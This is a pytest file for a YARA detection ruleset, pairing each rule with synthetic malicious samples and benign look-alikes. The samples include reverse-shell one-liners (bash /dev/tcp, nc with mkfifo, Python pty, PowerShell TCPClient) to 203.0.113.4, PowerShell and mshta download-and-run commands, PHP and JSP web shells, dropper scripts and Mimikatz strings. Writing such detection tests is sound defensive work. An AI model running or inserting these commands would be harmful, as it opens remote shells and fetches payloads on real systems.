"""Each shipped YARA rule finds a sample of what it names, and none takes an honest neighbour for it.

Samples are put together at run time, so that this file is not itself taken for one.
"""

from __future__ import annotations

import re
import tarfile
from pathlib import Path

import pytest
import yara

from sekisho.signatures.model import EXTERNALS
from sekisho.signatures.samples import CLEAN, EICAR
from sekisho.signatures.sources import SHIPPED

FILES = sorted((SHIPPED / "yara").glob("*.yar"))
NAMES = [name for path in FILES for name in re.findall(r"^rule (\w+)", path.read_text(), re.MULTILINE)]
PE = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0L\1\3\0" + bytes(240)
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)


def join(*parts: str) -> bytes:
    return "".join(parts).encode()


def beacon(key: int) -> bytes:
    block = bytes.fromhex("000100010002000000020001000200500003000200040000ea600004000200040010000a000500010002001e")
    return bytes(300) + bytes(byte ^ key for byte in block) + bytes(300)


BAD: dict[str, list[bytes]] = {
    "sekisho_eicar": [EICAR, b"x" * 300_000 + EICAR, b"\x00" * 1000 + EICAR + b"\xff" * 1000],
    "sekisho_eicar_file": [EICAR, EICAR + b"\r\n"],
    "office_macro_downloader": [
        join(
            "Attribute VB_Name = 1\nSub Auto",
            "Open()\nMSXML2.",
            "XMLHTTP\nADODB.",
            "Stream\nWScript.",
            "Shell\nEnd Sub",
        )
    ],
    "lnk_starts_script_host": [
        LNK + join("power", "shell -w hidden iex (iwr http", "://203.0.113.4/a)"),
        LNK + "mshta http://203.0.113.4/a.hta".encode("utf-16-le"),
    ],
    "hta_dropper": [
        join("<html><hta:", "application id=a><script>x = new ActiveXObject('WScript.", "Shell'); power", "shell")
    ],
    "js_dropper": [
        join(
            "var a = new ActiveX",
            "Object('MSXML2.",
            "XMLHTTP'), s = new ActiveXObject('ADODB.",
            "Stream');",
            "s.SaveTo",
            "File(p); new ActiveXObject('WScript.",
            "Shell').Run(p);",
        )
    ],
    "html_smuggling": [
        join(
            "<html><script>var d='TV",
            "qQ" + "AAAA" * 20 + "'; var u = URL.create",
            "ObjectURL(new ",
            "Blob([at",
            "ob(d)]));",
            "a.download = 'invoice",
            ".iso'; a.href = u; a.cl",
            "ick();</script></html>",
        )
    ],
    "zip_double_extension": [b"PK\x03\x04" + bytes(26) + join("invoice.pdf", ".exe") + bytes(40)],
    "mimikatz_strings": [
        PE + join("sekurlsa", "::logonpasswords") + b"\0" + join("gentil", "kiwi"),
        PE + join("lsadump", "::sam").decode().encode("utf-16-le") + b"\0\0" + join("kerberos", "::golden"),
    ],
    "cobalt_strike_beacon_config": [beacon(0x69), beacon(0x2E)],
    "reverse_shell_one_liner": [
        join("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.4/4444 0>&1\n"),
        join("rm /tmp/f; mk", "fifo /tmp/f; cat /tmp/f | /bin/", "sh -i 2>&1 | nc 203.0.113.4 4444 > /tmp/f"),
        join(
            "import socket,os\ns=socket.",
            "socket();s.connect(a)\nos.dup",
            "2(s.fileno(),0)\n",
            "import pty;pty.spawn('/bin/",
            "sh')",
        ),
        join(
            "$c = New-Object System.Net.Sockets.",
            "TCPClient('a',1);$s = $c.Get",
            "Stream();while(1){i",
            "ex $x; iex $d }",
        ),
    ],
    "upx_packed_with_injection_imports": [
        PE + b"UPX0\0\0\0\0UPX1" + join("WriteProcess", "Memory\0CreateRemote", "Thread")
    ],
    "autoit_dropper": [
        PE
        + join("This is a third-party compiled AutoIt", " script.")
        + b"\0"
        + join("Reg", "Asm.exe NtUnmapView", "OfSection @Startup", "Dir")
    ],
    "php_web_shell": [
        join("<?php @ev", "al($_PO", "ST['z']); ?>"),
        join("<?php ev", "al(gzin", "flate(base64_", "decode('eJw='))); ?>"),
    ],
    "jsp_web_shell": [join("<% Runtime.get", "Runtime().exec(request.get", 'Parameter("c")); %>')],
    "ransom_note": [
        join(
            "All your files have been ",
            "encrypted! Pay 2 Bit",
            "coin. Install Tor ",
            "Browser and open abcdefghijklmnop",
            ".onion",
        )
    ],
}

HONEST: dict[str, bytes] = {
    "macro that saves a backup": b"Attribute VB_Name\nSub AutoOpen()\nActiveDocument.Save\nEnd Sub",
    "shortcut to a program": LNK + "C:\\Windows\\System32\\notepad.exe".encode("utf-16-le"),
    "page with a download button": b"<html><script>a.download='report.csv'; a.href=URL.createObjectURL(b);"
    b"a.click(); atob('aGk=');</script></html>",
    "zip of documents": b"PK\x03\x04"
    + bytes(26)
    + b"invoice.pdf"
    + bytes(40)
    + b"PK\x03\x04"
    + bytes(26)
    + b"setup.exe",
    "article about a tool": b"Mimikatz by gentilkiwi reads passwords; see sekurlsa::logonpasswords.",
    "PHP form": b"<?php $name = htmlspecialchars($_POST['name']); echo $name; ?>",
    "PHP template engine": b"<?php eval('?>' . $template->render()); ?>",
    "UPX packed program": PE + b"UPX0\0\0\0\0UPX1" + b"LoadLibraryA\0GetProcAddress",
    "news about ransomware": b"Hospital files were encrypted; attackers asked for Bitcoin. Police advise not to pay.",
    "shell script": b"#!/bin/sh\nexec 3<>/dev/tcp/localhost/80\necho ok >&3\n",
    "almost EICAR": EICAR[:-1],
    **CLEAN,
}


@pytest.fixture(scope="module")
def rules() -> yara.Rules:
    return yara.compile(
        filepaths={path.name: str(path) for path in FILES}, externals=dict.fromkeys(EXTERNALS, ""), includes=False
    )


def test_every_shipped_rule_has_a_sample_here() -> None:
    assert sorted(NAMES) == sorted(BAD)


@pytest.mark.parametrize("name", NAMES)
def test_the_rule_finds_its_samples(name: str, rules: yara.Rules) -> None:
    for sample in BAD[name]:
        assert name in [match.rule for match in rules.match(data=sample, timeout=5)], sample[:60]


@pytest.mark.parametrize("name", NAMES)
def test_the_rule_says_what_a_person_needs(name: str, rules: yara.Rules) -> None:
    meta = {rule.identifier: rule.meta for rule in rules}[name]
    assert meta["description"] and meta["description_ja"]
    assert meta["severity"] in ("low", "medium", "high")
    assert meta["confidence"] in ("low", "medium", "high", "certain")


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_left_alone(name: str, rules: yara.Rules) -> None:
    assert [match.rule for match in rules.match(data=HONEST[name], timeout=5)] == []


def test_programs_of_this_machine_are_left_alone(rules: yara.Rules) -> None:
    paths = [path for path in sorted(Path("/usr/bin").iterdir()) if path.is_file()][:150]
    paths += sorted(Path("/usr/share/doc").rglob("copyright"))[:100]
    found = {str(path): rules.match(str(path), timeout=20) for path in paths if path.stat().st_size < 20 << 20}
    assert len(found) > 50
    assert {path: hits for path, hits in found.items() if hits} == {}


def test_public_rules_compile_beside_ours(tmp_path: Path) -> None:
    archive = Path(__file__).resolve().parents[3] / "shared" / "data" / "yara" / "signature-base.tar.xz"
    if not archive.exists():
        pytest.skip("the public YARA rules are not on this machine")
    with tarfile.open(archive) as packed:
        packed.extractall(tmp_path, filter="data")
    files = {path.name: str(path) for path in [*sorted((tmp_path / "yara").glob("*.yar")), *FILES]}
    rules = yara.compile(filepaths=files, externals=dict.fromkeys(EXTERNALS, ""), includes=False)
    assert "sekisho_eicar" in [match.rule for match in rules.match(data=EICAR, timeout=10)]
